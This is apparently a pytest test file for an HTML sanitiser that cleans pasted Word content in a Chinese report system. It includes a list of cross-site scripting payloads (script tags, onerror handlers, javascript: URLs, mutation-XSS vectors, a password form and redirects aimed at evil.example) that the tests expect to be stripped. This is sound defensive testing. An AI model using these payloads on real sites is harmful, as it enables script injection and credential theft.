"""Whatever comes in, only our own tags around escaped words come out; what a writer means comes through."""

import re
import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alliance.prose import parsing, plain, sanitising
from alliance.prose.blocks import Grid, Heading, Items, Paragraph, Picture, Run
from alliance.prose.grids import number_columns
from alliance.prose.reader import heading_of, joined

pytestmark = pytest.mark.once

PICTURE = "/summaries/pictures/7/"
ALLOWED = {
    **{
        tag: set()
        for tag in [
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "ul",
            "ol",
            "li",
            "table",
            "caption",
            "thead",
            "tbody",
            "tr",
            "td",
            "figure",
            "figcaption",
        ]
    },
    "p": {"data-align"},
    "th": {"scope"},
    "img": {"src", "alt"},
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<img src=x onerror=alert(1)>",
    f"<img src='{PICTURE}' onerror=alert(1) onload=alert(2) srcset='//evil.example/x'>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='//evil.example/x.png'>",
    "<img src='https://evil.example/x.png'>",
    f"<img src='{PICTURE}../../accounts/7/'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<style>*{background:url(//evil.example)}</style>x",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>登录</button></form>",
    "<p id=content name=csrfmiddlewaretoken class=btn>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><template><script>alert(1)</script></template></td></table>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<li><b onclick=alert(1)>x",
    "<td background='javascript:alert(1)' colspan='x\" onmouseover=alert(1)'>x</td>",
    "<p data-align='center\" onclick=\"alert(1)'>x</p>",
    "<isindex action=javascript:alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<p>\u202egnp.exe\u0000</p>",
]


class Seen(HTMLParser):
    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attrs):
        names = {name for name, _ in attrs}
        if tag not in ALLOWED or names - ALLOWED[tag]:
            self.wrong.append((tag, names))

    def handle_comment(self, data):
        self.wrong.append(data)


def assert_harmless(html):
    seen = Seen()
    seen.feed(html)
    assert seen.wrong == []
    assert nh3.clean(html, tags=set(ALLOWED), attributes={k: v for k, v in ALLOWED.items() if v}) == html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_comes_through(attack):
    html = sanitising.clean(f"<p>前</p>{attack}<p>后</p>", pictures={PICTURE})
    assert_harmless(html)
    assert not re.search(r"evil|javascript:|srcset|onerror=(?!alert)", re.sub(r"&lt;.*?&gt;", "", html))
    assert "前" in html
    assert sanitising.clean(html, pictures={PICTURE}) == html


def test_the_corpus_would_be_noticed():
    """The control: what is not sanitised is found wanting."""
    with pytest.raises(AssertionError):
        assert_harmless("<p onclick='x'>x</p>")
    with pytest.raises(AssertionError):
        assert_harmless("<iframe></iframe>")


def test_only_pictures_of_the_record_stay():
    html = f'<p>图</p><img src="{PICTURE}" alt="签约"><img src="/summaries/pictures/8/">'
    assert sanitising.clean(html) == "<p>图</p>"
    kept = f'<p>图</p><figure><img src="{PICTURE}" alt="签约"><figcaption>签约</figcaption></figure>'
    assert sanitising.clean(html, pictures={PICTURE}) == kept


def test_shown_fetches_nothing_from_elsewhere():
    html = '<img src="//evil.example/x.png"><img src="/\\evil.example"><img src="https://evil.example/x">'
    assert sanitising.shown(html) == ""
    assert PICTURE in sanitising.shown(f'<img src="{PICTURE}">')


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{mso-style-parent:""}</style>
<xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml></head><body lang=ZH-CN><!--StartFragment-->
<h1>一、总体情况<o:p></o:p></h1>
<p class=MsoNormal style='text-indent:32pt;mso-char-indent-count:2'><span style='font-size:16pt;mso-ascii-font-family:Calibri'>
<span lang=EN-US>2026</span>年，我单位积极参加联盟
活动，<span style='font-weight:bold'>按期</span>报送信息。<o:p>&nbsp;</o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>1.
<span style='font:7pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>共建基地</p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>2.<span>&nbsp;</span></span>订单培养</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>·<span>&nbsp;</span></span>员工培训</p>
<p class=MsoListParagraph style='mso-list:l2 level1 lfo3'><span style='mso-list:Ignore'>（一）</span>存在问题</p>
<table class=MsoTableGrid><tr><td colspan=3>表1　主要数据</td></tr><tr><td>类别</td><td>项目</td><td>数量</td></tr>
<tr><td rowspan=2><p>实习</p></td><td>岗位</td><td><p class=MsoNormal>1,200</p></td></tr>
<tr><td><p>学生</p><p>人数</p></td><td>85%</td></tr></table><!--EndFragment--></body></html>"""


def test_word_becomes_prose():
    assert sanitising.read(WORD) == (
        Heading(1, "一、总体情况"),
        Paragraph(
            (Run("2026年，我单位积极参加联盟活动，"), Run("按期", bold=True), Run("报送信息。"))
        ),
        Items(((Run("共建基地"),), (Run("订单培养"),)), ordered=True),
        Items(((Run("员工培训"),),)),
        Heading(2, "（一）存在问题"),
        Grid(
            ("类别", "项目", "数量"),
            (("实习", "岗位", "1,200"), ("实习", "学生 人数", "85%")),
            caption="表1 主要数据",
            numbers=frozenset({2}),
        ),
    )  # fmt: skip


def test_a_table_that_claims_a_million_columns_stays_small():
    html = "<table><tr><td colspan=999999 rowspan=99999>x</td></tr><tr><td>y</td></tr></table>" * 3
    assert all(len(grid.head) <= 20 for grid in sanitising.read(html))


@pytest.mark.parametrize("tag", ["div", "b", "ul", "table", "span"])
def test_what_is_nested_as_nobody_writes_is_words_and_costs_nothing(tag):
    begun = time.process_time()
    assert sanitising.clean(f"<{tag}>" * 80_000 + "深" + f"</{tag}>" * 80_000) == "<p>深</p>"
    assert time.process_time() - begun < 5  # with its nesting 40 and more
    assert sanitising.clean(f"<{tag}>" * 20 + "<p>浅</p>" + f"</{tag}>" * 20).count("浅") == 1


def test_nested_lists_and_tables_are_laid_flat():
    html = "<ul><li>甲<ul><li>乙</li></ul></li><li><p>丙</p><p>丁</p></li></ul><table><tr><td>a<table><tr><td>b</td></tr></table></td></tr></table>"
    lists, grid = sanitising.read(html)
    assert [item[0].text for item in lists.items] == ["甲", "乙", "丙 丁"]
    assert grid.head == ("a b",)


def test_text_is_what_is_read():
    html = "<h3>一、标题</h3><p>正<strong>文</strong></p><ul><li>项</li></ul><table><tr><td>甲</td><td>乙</td></tr></table>"
    assert parsing.text_of(html) == "一、标题\n正文\n· 项\n甲 乙"


@pytest.mark.parametrize(
    ("line", "level"), [("一、基本情况", 1), ("（二）会议", 2), ("一、这是一句话。", None), ("十", None)]
)
def test_chinese_numbers_make_headings_of_short_lines(line, level):
    found = heading_of(line)
    assert (found.level if found else None) == level


# ---------------------------------------------------------------- there and back

WORDS = st.text(st.sampled_from("联盟年度总结0123 abc,.<>&\"'|*#-·（）一、"), min_size=1, max_size=20)
CLEAN = WORDS.map(lambda text: " ".join(text.split())).filter(bool)
RUNS = st.lists(st.builds(Run, WORDS, st.booleans()), min_size=1, max_size=4).map(joined).filter(bool)


def _grid(width):
    row = st.tuples(*[CLEAN] * width)
    made = st.builds(lambda head, rows, caption: Grid(head, tuple(rows), caption, number_columns(tuple(rows))), row, st.lists(row, max_size=3), CLEAN)  # fmt: skip
    return made


BLOCK = st.one_of(
    st.builds(Paragraph, RUNS, st.sampled_from(["", "center", "right"])),
    st.builds(Heading, st.integers(1, 4), CLEAN),
    st.builds(Items, st.lists(RUNS, min_size=1, max_size=3).map(tuple), st.booleans()),
    st.integers(1, 4).flatmap(_grid),
    st.builds(Picture, st.just(PICTURE.encode()), CLEAN.filter(lambda text: text != "图片")),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(BLOCK, max_size=6).map(tuple))
def test_blocks_survive_html(blocks):
    html = parsing.html_of(blocks, address=sanitising.place_of)
    assert sanitising.read(html, {PICTURE}) == blocks
    assert parsing.blocks_of(html, load=str.encode) == blocks
    assert_harmless(html)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200) | st.lists(st.sampled_from([*ATTACKS, "<ul>", "<li>", "<table>", "<td>", "</p>", "字", "<b>", "<figcaption>"]), max_size=8).map("".join))  # fmt: skip
def test_cleaning_is_harmless_and_settled(html):
    once = sanitising.clean(html, pictures={PICTURE})
    assert_harmless(once)
    assert sanitising.clean(once, pictures={PICTURE}) == once


def test_plain_text_loses_nothing():
    blocks = sanitising.read(WORD)
    assert plain.blocks_of_plain(plain.plain_of(blocks)) == blocks
    typed = "一、情况\n第一段\n第二段 **要点**\n\n- 甲\n- 乙\n1. 丙\n\n| 类 | 数 |\n| 甲 | 3 |\n![签约](/summaries/pictures/7/)"
    found = plain.blocks_of_plain(typed)
    assert found == (
        Heading(1, "一、情况"),
        Paragraph((Run("第一段"),)),
        Paragraph((Run("第二段 "), Run("要点", bold=True))),
        Items(((Run("甲"),), (Run("乙"),))),
        Items(((Run("丙"),),), ordered=True),
        Grid(("类", "数"), (("甲", "3"),), numbers=frozenset({1})),
        Picture(PICTURE.encode(), "签约"),
    )
    assert plain.blocks_of_plain(plain.plain_of(found)) == found
